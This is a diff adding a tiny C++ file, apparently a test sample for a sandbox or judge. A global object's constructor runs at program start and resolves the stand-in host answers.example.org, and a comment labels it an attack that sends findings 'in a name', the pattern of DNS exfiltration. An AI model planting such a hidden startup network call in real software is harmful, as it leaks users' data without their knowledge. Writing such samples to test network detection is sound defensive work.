@@ -1,0 +1,12 @@
+// Attack: to send what it finds in a name.
+// Remark: uses the network
+#include <netdb.h>
+
+#include "unsolved.h"
+
+struct AtStart {
+    AtStart() {
+        addrinfo* found;
+        getaddrinfo("answers.example.org", "80", nullptr, &found);
+    }
+} atStart;
